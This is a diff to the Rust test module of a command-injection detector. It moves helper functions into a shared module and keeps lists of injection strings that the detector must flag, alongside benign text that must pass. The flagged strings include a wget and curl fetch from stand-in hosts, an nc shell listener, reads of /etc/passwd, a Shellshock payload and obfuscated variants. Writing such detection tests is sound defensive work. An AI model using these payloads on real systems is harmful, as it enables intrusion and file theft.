@@ -240,110 +240,112 @@ mod tests {
 
     use super::look;
     use crate::fuel::Fuel;
-
-    fn name(text: &str) -> Option<&'static str> {
-        let found = look(text, &mut Fuel::new(u64::MAX));
-        found.expect("fuel").map(|(reason, _)| reason.name)
-    }
-
-    fn found(texts: &[&str]) {
-        for text in texts {
-            assert!(name(text).is_some(), "not found: {text}");
-        }
-    }
-
-    fn passes(texts: &[&str]) {
-        for text in texts {
-            assert_eq!(name(text), None, "{text}");
-        }
-    }
+    use crate::tried::{found, passes};
 
     #[test]
     fn a_separator_and_a_command_are_found() {
-        found(&[
-            ";id",
-            "a|id",
-            "x && ls /etc",
-            ";wget http://some_host/sh311.sh", // gotestwaf (MIT)
-            "|getent+hosts+somehost.burpcollaborator.net.&",
-            "| set /a 3482*7301",
-            "127.0.0.1; cat /etc/passwd",
-            "& ping -n 30 127.0.0.1 &",
-            "\n/usr/bin/id\n",
-            "cmd=cat /etc/passwd",
-            "nice picture; thank you all for it; cat /etc/passwd",
-        ]);
+        found(
+            look,
+            &[
+                ";id",
+                "a|id",
+                "x && ls /etc",
+                ";wget http://some_host/sh311.sh", // gotestwaf (MIT)
+                "|getent+hosts+somehost.burpcollaborator.net.&",
+                "| set /a 3482*7301",
+                "127.0.0.1; cat /etc/passwd",
+                "& ping -n 30 127.0.0.1 &",
+                "\n/usr/bin/id\n",
+                "cmd=cat /etc/passwd",
+                "nice picture; thank you all for it; cat /etc/passwd",
+            ],
+        );
     }
 
     #[test]
     fn a_substitution_is_found() {
-        found(&[
-            "`id`",
-            "$(whoami)",
-            "--exec=`id`--remote=origin",
-            "$(`cat /etc/passwd`)",
-            "<(curl http://a.example/)",
-        ]);
+        found(
+            look,
+            &[
+                "`id`",
+                "$(whoami)",
+                "--exec=`id`--remote=origin",
+                "$(`cat /etc/passwd`)",
+                "<(curl http://a.example/)",
+            ],
+        );
     }
 
     #[test]
     fn a_disguise_is_found() {
-        found(&[
-            ";c'a't /etc/passwd",
-            "; w\\get http://a.example",
-            ";getent$IFS$9hosts$IFS$9a.example", // gotestwaf (MIT)
-            ";cat${IFS}/etc/passwd",
-            ";/???/c?t /???/p??swd",
-            "; cat /et'c/pa'ss'wd",
-            "& p^ower^shell -enc AAAA",
-        ]);
+        found(
+            look,
+            &[
+                ";c'a't /etc/passwd",
+                "; w\\get http://a.example",
+                ";getent$IFS$9hosts$IFS$9a.example", // gotestwaf (MIT)
+                ";cat${IFS}/etc/passwd",
+                ";/???/c?t /???/p??swd",
+                "; cat /et'c/pa'ss'wd",
+                "& p^ower^shell -enc AAAA",
+            ],
+        );
     }
 
     #[test]
     fn a_command_as_the_whole_text_is_found() {
-        found(&[
-            "cat /etc/passwd",
-            "curl https://a.example/x.sh",
-            "/bin/sh -c 'id'",
-            "nc -lvvp 4444 -e /bin/sh",
-            "type C:\\boot.ini",
-            "powershell -enc AAAA",
-            "() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'",
-            "whoami",
-        ]);
+        found(
+            look,
+            &[
+                "cat /etc/passwd",
+                "curl https://a.example/x.sh",
+                "/bin/sh -c 'id'",
+                "nc -lvvp 4444 -e /bin/sh",
+                "type C:\\boot.ini",
+                "powershell -enc AAAA",
+                "() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'",
+                "whoami",
+            ],
+        );
     }
 
     #[test]
     fn prose_passes() {
-        passes(&[
-            "use grep | sort",
-            "Use `grep -r foo .` to find it, then `sort`",
-            "salt & pepper; cat & dog",
-            "R&D; sleep well",
-            "Jack | Jill | Bob",
-            "home | date | time",
-            "echo in the mirror", // gotestwaf (MIT)
-            "ls 300 lexus",
-            "nc 8000 controller",
-            "curl and divergence",
-            "$100 & more; more or less",
-            "Terms & conditions; see id",
-            "sudo make me a sandwich",
-        ]);
+        passes(
+            look,
+            &[
+                "use grep | sort",
+                "Use `grep -r foo .` to find it, then `sort`",
+                "salt & pepper; cat & dog",
+                "R&D; sleep well",
+                "Jack | Jill | Bob",
+                "home | date | time",
+                "echo in the mirror", // gotestwaf (MIT)
+                "ls 300 lexus",
+                "nc 8000 controller",
+                "curl and divergence",
+                "$100 & more; more or less",
+                "Terms & conditions; see id",
+                "sudo make me a sandwich",
+            ],
+        );
     }
 
     #[test]
     fn addresses_and_code_pass() {
-        passes(&[
-            "https://example.com/?id=5&sort=asc&cat=3&type=x&date=2020-01-01&find=me",
-            "data:image/png;base64,iVBORw0KGgo=",
-            "a && b || c",
-            "o o ,\n| .' \",\n(_)",
-            "long f_free;    /* free file nodes in fs */",
-            "cd build && cmake ..\nmake -j4\n",
-            "C:\\Users\\bob\\file.txt",
-            "&lt;b&gt;more&nbsp;sort",
-        ]);
+        passes(
+            look,
+            &[
+                "https://example.com/?id=5&sort=asc&cat=3&type=x&date=2020-01-01&find=me",
+                "data:image/png;base64,iVBORw0KGgo=",
+                "a && b || c",
+                "o o ,\n| .' \",\n(_)",
+                "long f_free;    /* free file nodes in fs */",
+                "cd build && cmake ..\nmake -j4\n",
+                "C:\\Users\\bob\\file.txt",
+                "&lt;b&gt;more&nbsp;sort",
+            ],
+        );
     }
 
     proptest! {
